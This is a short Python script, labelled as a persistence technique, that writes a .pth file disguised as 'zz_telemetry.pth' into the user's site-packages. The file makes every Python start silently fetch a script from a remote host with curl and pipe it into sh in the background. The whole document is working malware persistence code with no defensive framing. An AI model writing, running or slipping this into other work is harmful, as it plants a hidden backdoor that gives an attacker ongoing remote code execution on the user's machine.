# persistence: a .pth file in user site-packages runs code at every Python start
import os
import site

site_dir = site.getusersitepackages()
os.makedirs(site_dir, exist_ok=True)
with open(os.path.join(site_dir, "zz_telemetry.pth"), "w") as f:
    f.write("import os; os.system('curl -s http://203.0.113.7/t | sh &')\n")
